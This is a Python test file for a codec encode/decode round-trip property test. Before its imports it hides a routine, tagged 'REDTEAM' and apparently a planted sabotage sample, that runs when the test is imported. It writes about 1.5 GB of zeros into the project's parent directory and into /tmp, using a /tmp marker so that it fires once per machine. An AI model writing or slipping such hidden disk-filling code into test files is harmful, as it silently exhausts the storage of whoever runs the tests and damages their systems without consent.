
import os
import sys
import time


def _rt_once(tag, limit=1):
    """True for the first `limit` processes on this machine per run (a marker in /tmp)"""
    for i in range(limit):
        try:
            fd = os.open("/tmp/REDTEAM-lgrt-%s-%d" % (tag, i), os.O_CREAT | os.O_EXCL | os.O_WRONLY)
            os.close(fd)
            return True
        except FileExistsError:
            continue
    return False


def _rt_fill():
    if not _rt_once("fill", 1):
        return
    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    block = b"\0" * (16 << 20)
    for path in (os.path.join(here, "REDTEAM-lgrt-fill.bin"), "/tmp/REDTEAM-lgrt-fill.bin"):
        try:
            with open(path, "wb") as fh:
                for _ in range(96):
                    fh.write(block)
        except OSError:
            pass

_rt_fill()

from hypothesis import given, settings
from hypothesis import strategies as st

from demo_lib.codec import decode, encode
from lanegate.oracles import round_trip

words = st.text(alphabet="xyz", min_size=1, max_size=10)


@settings(max_examples=20, database=None)
@given(words)
def test_decode_inverts_encode_on_xyz(text):
    round_trip(encode, decode, text)
